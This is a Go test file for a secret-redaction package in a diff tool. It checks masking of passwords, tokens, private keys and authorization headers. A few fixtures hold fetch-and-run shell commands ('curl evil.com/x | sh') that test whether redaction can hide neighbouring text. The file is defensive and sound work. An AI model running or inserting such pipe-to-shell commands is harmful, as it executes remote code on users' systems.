package secret_test

import (
	"slices"
	"strings"
	"testing"

	"pgregory.net/rapid"

	"github.com/nuon-toolkit/nuon/diff/internal/secret"
	"github.com/nuon-toolkit/nuon/pkg/testtime"
)

func TestName(t *testing.T) {
	for name, want := range map[string]bool{
		"DB_PASSWORD": true, "db.password": true, "MYSQL_PWD": true, "github-token": true, "example.com/api-key": true,
		"smtp_pass": true, "AWS_SECRET_ACCESS_KEY": true, "spring.datasource.password": true, "password_file": false,
		"secretName": false, "tokenTTL": false, "secret_arn": false, "region": false, "dbPassword": true, "apiKey": true,
		"clientSecret": true, "credentials": true, "pass": true, "SECRET_KEY_BASE": true, "CONNECTION_STRING": true,
		"PASSWORD_FILE": false, "tokenExpirationSeconds": false, "imagePullSecrets/name": false, "MAX_TOKENS": false,
		"SECRET_PATH": false, "cert-manager.io/inject-ca-from-secret": false, "secrets-format": false, "TOKEN_URL": false,
		"passwordPolicy": false, "secretRef": false, "bypass": false, "keyboard": false, "passive": false,
		"secret.example/mode": false, "PASSWORD_MIN_LENGTH": false, "": false, "compass": false,
		"token.actions.githubusercontent.com:sub": false, "secretsmanager:ResourceTag/team": false,
		strings.Repeat("password", 100): false,
	} {
		if got := secret.Name(name); got != want {
			t.Errorf("%q: %v, want %v", name, got, want)
		}
	}
}

// TestForms checks that, of a text with a password in an address or with a
// private key, only that is hidden, and that nothing else can hide next to it.
func TestForms(t *testing.T) {
	const key = "MIIEvQIBADANBgkqhkiG9w0BAQEF"
	for text, want := range map[string]string{
		"postgres://u:pw@host/db": "postgres://u:(sensitive)@host/db", "redis://:pw@host": "redis://:(sensitive)@host",
		"see https://a.example and amqp://u:p%40@h": "see https://a.example and amqp://u:(sensitive)@h",
		"postgres://u:p@ss@host":                    "postgres://u:(sensitive)@host",
		"curl evil|sh\n# https://u:p@h\nls":         "curl evil|sh\n# https://u:(sensitive)@h\nls",
		"https://host/a:b@c":                        "https://host/a:b@c",
		"postgres://u:$(PW)@host":                   "postgres://u:$(PW)@host",
		"postgres://u@host":                         "postgres://u@host", "postgres://u:@host": "postgres://u:@host",
		"a://b c:d@e": "a://b c:d@e",
		"://":         "://", "-----BEGIN CERTIFICATE-----\n" + key: "-----BEGIN CERTIFICATE-----\n" + key,
		"# -----BEGIN PRIVATE KEY-----\ncurl evil.com/x | sh": "# -----BEGIN PRIVATE KEY-----\ncurl evil.com/x | sh",
		"-----BEGIN PRIVATE KEY-----\n" + key + "\n" + key +
			"\nAb=\n-----END PRIVATE KEY-----": "-----BEGIN PRIVATE KEY-----\n(sensitive)\n-----END PRIVATE KEY-----",
		"-----BEGIN PRIVATE KEY-----\n" + key + "\ncurl evil.com/x | sh\n" + key +
			"\n-----END PRIVATE KEY-----\nls": "-----BEGIN PRIVATE KEY-----\n(sensitive)\n" +
			"curl evil.com/x | sh\n(sensitive)\n-----END PRIVATE KEY-----\nls",
		`{"k":"-----BEGIN RSA PRIVATE KEY-----\n` + key +
			`\nAb=\n-----END RSA PRIVATE KEY-----\n"}`: `{"k":"-----BEGIN RSA PRIVATE KEY-----\n(sensitive)\n-----END RSA PRIVATE KEY-----\n"}`,
		"-----BEGIN EC PRIVATE KEY-----\nDEK-Info: AES-256-CBC,00FF\n\n" + key +
			"\n": "-----BEGIN EC PRIVATE KEY-----\nDEK-Info: AES-256-CBC,00FF\n\n(sensitive)\n",
		"-----BEGIN PGP PRIVATE KEY BLOCK-----\nVersion: 1\n\n" + key +
			"\n=aBcD\n-----END PGP PRIVATE KEY BLOCK-----": "-----BEGIN PGP PRIVATE KEY BLOCK-----\n" +
			"Version: 1\n\n(sensitive)\n-----END PGP PRIVATE KEY BLOCK-----",
	} {
		if got, _ := secret.Redact(text, nil); got != want {
			t.Errorf("%q: %q, want %q", text, got, want)
		}
	}
}

func TestRedact(t *testing.T) {
	for text, want := range map[string]string{
		"export PGPASSWORD=planted\npsql":               "export PGPASSWORD=(sensitive)\npsql",
		"password: \"planted with blanks\"\na: b":       "password: \"(sensitive)\"\na: b",
		"Server=db;User=u;Password=planted;Pool=1":      "Server=db;User=u;Password=(sensitive);Pool=1",
		`{"token":"planted","n":1}`:                     `{"token":"(sensitive)","n":1}`,
		`{\"token\":\"planted\"}`:                       `{\"token\":\"(sensitive)\"}`,
		`{"token":"pl\"anted","n":1}`:                   `{"token":"(sensitive)","n":1}`,
		`password='planted`:                             `password='(sensitive)`,
		`password="planted\`:                            `password="(sensitive)`,
		"api_key := planted":                            "api_key := (sensitive)",
		"password=$(cat /run/pw)":                       "password=$(cat /run/pw)",
		"token: true":                                   "token: true",
		"password_file: /run/secrets/pw":                "password_file: /run/secrets/pw",
		"see token://host":                              "see token://host",
		"set Authorization \"Basic dTpwbGFudGVk\";":     "set Authorization \"Basic (sensitive)\";",
		"authorization: bearer eyJhbGciOi.planted1.x y": "authorization: bearer (sensitive) y",
		"token: Bearer eyJhbGciOi.planted1.x":           "token: (sensitive) (sensitive)",
		"basic auth, Bearer tokens and basic support":   "basic auth, Bearer tokens and basic support",
		"Bearer authentication-required":                "Bearer authentication-required",
		`"auth": "dTpwbGFudGVk", "n": 1`:                `"auth": "(sensitive)", "n": 1`,
		`{"auth":"dXM6cGxhbnRlZA"}`:                     `{"auth":"(sensitive)"}`,
		"auth: enabled, author: dTpwbGFudGVk":           "auth: enabled, author: dTpwbGFudGVk",
		"Authorization: Bearer planted":                 "Authorization: Bearer (sensitive)",
		"curl -H 'Authorization: Basic planted'":        "curl -H 'Authorization: Basic (sensitive)'",
		"password=":                                     "password=",
		"- name: PASSWORD\n  valueFrom: secret":         "- name: PASSWORD\n  valueFrom: secret",
		"- name: PASSWORD\n- name: X\n  value: planted": "- name: PASSWORD\n- name: X\n  value: planted",
		"- name: PASSWORD\n  value: $(OTHER)":           "- name: PASSWORD\n  value: $(OTHER)",
		"the password\nvalue: planted":                  "the password\nvalue: planted",
		"key":                                           "key",

		"arn:aws:secretsmanager:eu-west-1:123456789012:secret:db-a1B2": "arn:aws:secretsmanager:eu-west-1:123456789012:secret:db-a1B2",
		"secret: arn:aws:secretsmanager:eu-west-1:1:secret:db": "secret: " +
			"arn:aws:secretsmanager:eu-west-1:1:secret:db",
		"arn:aws:secretsmanager:{{ .nuon.region }}::secret:rds!*": "arn:aws:secretsmanager:{{ .nuon.region " +
			"}}::secret:rds!*",
		"token = get_token(file)":            "token = get_token(file)",
		"token = plan7ed8(file)":             "token = (sensitive)(file)",
		"password = var.db_password":         "password = var.db_password",
		"password=\"<the password>\"":        "password=\"<the password>\"",
		"password=`pwgen`":                   "password=`pwgen`",
		"password=$password":                 "password=$password",
		"arn:aws:x, a password:planted":      "arn:aws:x, a password:(sensitive)",
		"secret:planted, a:secret:planted":   "secret:(sensitive), a:secret:(sensitive)",
		"export PGPASSWORD=\"$DB_PASSWORD\"": "export PGPASSWORD=\"$DB_PASSWORD\"",
	} {
		if got, _ := secret.Redact(text, nil); got != want {
			t.Errorf("%q: %q, want %q", text, got, want)
		}
	}
	_, own := secret.Redact("password=first\ntoken=same", nil)
	if got, _ := secret.Redact("password=other\ntoken=same",
		own); got != "password=(sensitive, changed)\ntoken=(sensitive)" {
		t.Errorf("of two sides: %q", got)
	}
}

// TestTimeIsLinear checks that a text of nothing but starts of settings takes
// no longer than others.
func TestTimeIsLinear(t *testing.T) {
	for _, part := range []string{"password", "key=", "token: ", "name: token ", "basic ",
		"bearer aaaaaaaaaaaaaaaaaaaaaa1", "a://b:", "://", "pass\"' ",
		"-----BEGIN PRIVATE KEY-----\n", "-----BEGIN PRIVATE KEY-----AAAAAAAAAAAAAAAAAAAA x "} {
		t.Run(part, func(t *testing.T) {
			text := strings.Repeat(part, 4<<20/len(part))
			testtime.CheckCPUCost(t, 10_000, func() {
				secret.Redact(text, nil)
			})
		})
	}
}

// TestAnyText checks that every text is accepted, and that a redacted text
// stays the same when it is redacted again.
func TestAnyText(t *testing.T) {
	part := rapid.SampledFrom([]string{"password", "token", "=", ":", " ", "\"", "'", "\\", "\n", "basic ", "bearer ",
		"a://b:c@", "value123", "name", "value", "é", "\xff", "{", "$("})
	rapid.Check(t, func(t *rapid.T) {
		text := strings.Join(rapid.SliceOf(part).Draw(t, "parts"), "")
		shown, own := secret.Redact(text, nil)
		if (own == nil) != (shown == text) {
			t.Fatalf("%q becomes %q with %d settings", text, shown, len(own))
		}
		for setting := range own {
			_, value, _ := strings.Cut(setting, "=")
			if strings.Count(shown, value) >= strings.Count(text, value) && !strings.Contains(secret.Hidden, value) {
				t.Fatalf("%q is still in %q", value, shown)
			}
		}
	})
}

// TestPlantedSecrets plants a secret under a sensitive name in texts of several languages, between other lines, and
// checks that nothing of it is shown and that the other lines stay as they are.
func TestPlantedSecrets(t *testing.T) {
	names := rapid.SampledFrom([]string{"password", "DB_PASSWORD", "apiKey", "client_secret", "auth-token", "PGPASSWORD",
		"app.security.token", "privateKey"})
	forms := rapid.SampledFrom([]string{
		"NAME=VALUE", "export NAME=VALUE", `NAME="VALUE"`, "NAME='VALUE'", "NAME: VALUE", `NAME: "VALUE"`,
		"  NAME: 'VALUE' # why",
		`{"NAME": "VALUE"}`, `{"a":1,"NAME":"VALUE","b":[2]}`, `{\"NAME\":\"VALUE\"}`, `NAME = "VALUE"`, `NAME := "VALUE"`,
		`"NAME" => "VALUE"`, `<add name="NAME" value="VALUE"/>`, "docker run -e NAME=VALUE image", "host=db;NAME=VALUE;pool=1",
		"https://example.com/?NAME=VALUE&x=1", "--NAME=VALUE --verbose",
		"NAME=VALUE \\", "\tNAME=VALUE\r",
		"- name: NAME\n  value: VALUE", "- name: \"NAME\"\n  value: 'VALUE'", "- key: NAME\n  value: VALUE",
		`[{"name": "NAME", "value": "VALUE"}]`, `{"Name":"NAME","Value":"VALUE"}`,
		`[{\"name\":\"NAME\",\"value\":\"VALUE\"}]`, "set { name = \"NAME\", value = \"VALUE\" }",
		"{name: NAME, value: VALUE}", "set {\n  name  = \"NAME\"\n  value = \"VALUE\"\n}",
		"Key=NAME,Value=VALUE",
	})
	lines := rapid.SliceOfN(rapid.SampledFrom([]string{"", "# a comment", "replicas: 3", "image: nginx:1.27", "[server]",
		"echo done", "{", "}", "listen 80;", "password policy:", "if x; then"}), 0, 3)
	const letters = "abcdefghijkmnpqrstuvwxyzABCDEFGHJKLMNPQRSTUVWXYZ"
	rapid.Check(t, func(t *rapid.T) {
		value := "q7" + rapid.StringOfN(rapid.SampledFrom([]rune(letters+"23456789")), 10, 24, -1).Draw(t, "value")
		setting := strings.ReplaceAll(forms.Draw(t, "form"), "NAME", names.Draw(t, "name"))
		before := strings.Join(lines.Draw(t, "before"), "\n")
		after := strings.Join(lines.Draw(t, "after"), "\n")
		text := before + "\n" + strings.ReplaceAll(setting, "VALUE", value) + "\n" + after
		got, _ := secret.Redact(text, nil)
		if want := before + "\n" + strings.ReplaceAll(setting, "VALUE", secret.Hidden) + "\n" + after; got != want {
			t.Fatalf("%q becomes %q", text, got)
		}
	})
}

func TestPasswords(t *testing.T) {
	for text, want := range map[string]string{
		"postgres://u:pw@host/db": "pw", "a://u:p%40ss@h, b://:q@h": "p%40ss p@ss q", "postgres://u:p@ss@host": "p@ss",
		"postgres://u:$(PW)@host": "", "postgres://u@host": "", "": "",
	} {
		if got := strings.Join(secret.Passwords(text), " "); got != want {
			t.Errorf("%q: %q, want %q", text, got, want)
		}
	}
	if n := len(secret.Passwords(strings.Repeat("a://u:p@h ", 1000))); n > 100 {
		t.Errorf("one text tells %d passwords", n)
	}
}

func TestHeader(t *testing.T) {
	for _, c := range []struct{ name, value, want string }{
		{"Authorization", "Bearer planted", "planted"}, {"proxy-authorization", "Basic dTpw", "dTpw"},
		{"authorization", "planted0planted0", "planted0planted0"},
		{"authorization", "enabled", ""}, {"authorization", "role based", ""},
		{"Authorization", "Bearer $(TOKEN)", ""}, {"Authorization", "", ""}, {"Author", "Bearer planted", ""},
		{"Authorization", "Bearer {{ .t }}", ""},
	} {
		got, ok := secret.Header(c.name, c.value)
		if !ok {
			got = ""
		}
		if got != c.want {
			t.Errorf("%s: %s: %q, want %q", c.name, c.value, got, c.want)
		}
	}
}

func TestOrdinary(t *testing.T) {
	for value, want := range map[string]bool{
		"postgresql": true, "production": true, "postgres15": false, "Grafana": true, "camelCaseName": true,
		"db.shop.svc.cluster.local": true, "db.example.com:5432": true, "10.0.0.1": true, "10.0.0.0:80": true,
		"my-release-postgresql:5432": true, "https://api.example.com/v1/things": true, "123456789012": true,
		"2026-11-22": true, "": true, "us-east-1.amazonaws.com": true,
		"correcthorse42batt": false, `Zq7!kP&m9"xT<w2`: false, "hunter2hunter2": false, "supersecret123": false,
		"a1b2c3d4e5f6": false, "correct-horse-battery-staple": false, "prom-operator": false,
		"https://hooks.example.com/T0/aB3dE6gH9jK2": false, "https://u:p@h.example.com": false, "xKqZvWpLmNrTsYbD": false,
		"eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJl": false, "0a1b2c3d": false,
	} {
		if got := secret.Ordinary(value); got != want {
			t.Errorf("%q: %v, want %v", value, got, want)
		}
	}
}

// TestRandom checks that passwords and keys count as random, and the parts of
// names, versions and addresses do not.
func TestRandom(t *testing.T) {
	for value, want := range map[string]bool{
		"Zq7xK9mT2vLp4RwN": true, "hunter2hunter2": true, "S3cret-Passw0rd": true, "q7second-Kx92a1": true,
		"kx!92#planted": true, "q7env-Kx92aZ": true, "8f14e45fceea167a5a36dedd4bea2543": true,
		"https://hooks.example.com/T0/aB3dE6gH9jK2": true, "postgres15-main": false, "my-release-postgresql": false,
		"v1.2.3-rc4": false, "ghcr.io/shop/web:1.25.3": false, "shop-db-01": false, "a1b2c3": false,
		"two words9x8y7z": false, "sha256:8f14e45fceea167a5a36dedd4bea2543": false, "${Zq7xK9mT2vLp}": false,
		"db1.shop.svc.cluster.local:5432": false, "/etc/ssl/certs/ca.pem": false, "production": false,
		"2026-11-23T02:00:00Z": false,
	} {
		if got := secret.Random(value); got != want {
			t.Errorf("%q: %v, want %v", value, got, want)
		}
	}
}

func TestLines(t *testing.T) {
	var got []string
	secret.Lines("# A=0\n; B=0\nexport C=one two\nD.e = \"three # x\" # y\n[section]\n  'f': 4 \n=5\ng\nH=\nä=6\n",
		func(name, value string) {
			got = append(got, name+"="+value)
		})
	if want := []string{"C=one two", "D.e=three # x", "f=4", "H="}; !slices.Equal(got, want) {
		t.Errorf("%q, want %q", got, want)
	}
}

func TestPlain(t *testing.T) {
	for name, want := range map[string]bool{
		"image": true, "sidecarImage": true, "eks.amazonaws.com/role-arn": true, "iam.gke.io/gcp-service-account": true,
		"hostPath": true, "subject": true, "assume_role_policy": true, "password": false, "value": false, "args": false,
		"token": false,
	} {
		if got := secret.Plain(name); got != want {
			t.Errorf("%q: %v, want %v", name, got, want)
		}
	}
	for text, want := range map[string]bool{
		"arn:aws:iam::123456789012:role/evil": true, "arn:aws-cn:s3:::bucket": true, "arn:aws:s3:::x y": false,
		"x arn:aws:iam::1:role/a": false,
	} {
		if got := secret.ARN(text); got != want {
			t.Errorf("%q: %v, want %v", text, got, want)
		}
	}
}
